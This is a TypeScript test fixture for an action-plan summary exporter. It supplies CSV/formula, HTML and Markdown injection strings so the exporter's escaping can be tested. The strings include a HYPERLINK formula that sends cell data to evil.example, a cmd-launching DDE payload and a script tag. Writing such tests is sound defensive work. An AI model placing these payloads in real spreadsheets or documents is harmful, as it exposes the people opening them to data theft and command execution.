import { defaultSettings } from '../../src/core/settings';
import { summaryModel, type SummaryModel } from '../../src/core/summary';
import type { Action, Step } from '../../src/core/types';
import { numbered, tracker } from '../core/history/fixtures';

/** Text a tracker might hold that a spreadsheet, Word or a Markdown renderer could run or render as markup. */
export const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  plus: '+44 20 7946 0000',
  minus: '-2 days behind',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
  script: '<script>alert("x")</script>',
  markdown: '**Board** | [link](http://evil.example) _now_ `code` # not a heading',
};

function step(statusText: string | null): Step {
  return { text: 'Report to the Board', timeframeText: 'End of Nov 22', timeframe: { kind: 'month', start: '2022-11-01', end: '2022-11-30', redated: false }, statusText, status: 'off_track', rating: 'red', focus: 'update_due', reason: 'Red: overdue.' };
}

function hostile(ref: string, text: string): Action {
  return numbered(ref, 'red', { action: text, lead: text, reason: `Red: ${text}`, nextDue: '2022-11-30', focus: 'update_due', objective: text, ambition: text, strategy: text, steps: [step(text)] });
}

/** A summary whose every text field, in every section, carries one of the hostile strings. */
export function hostileModel(): SummaryModel {
  const actions = Object.values(HOSTILE).map((text, i) => hostile(String(i + 1), text));
  return summaryModel([tracker('Plan', actions)], { ...defaultSettings('2022-12-15'), nextMeeting: { date: '2023-01-12', name: HOSTILE.script } }, [], { title: HOSTILE.markdown });
}

/** A few ordinary actions: one of each rating, under two objectives. */
export function plainModel(): SummaryModel {
  const actions = [
    numbered('1', 'complete', { objective: 'Commitment', ambition: 'Involve people early' }),
    numbered('2', 'green', { objective: 'Commitment', ambition: 'Involve people early' }),
    numbered('3', 'amber', { objective: 'Insight and evidence', lead: 'Engagement Manager', nextDue: '2022-12-02', steps: [step('Update: Deadlines adjusted')] }),
    numbered('4', 'red', { objective: 'Insight and evidence', nextDue: '2022-11-30' }),
  ];
  return summaryModel([tracker('Action Plan', actions)], { ...defaultSettings('2022-12-15'), nextMeeting: { date: '2023-01-12', name: 'January ELG meeting' } });
}
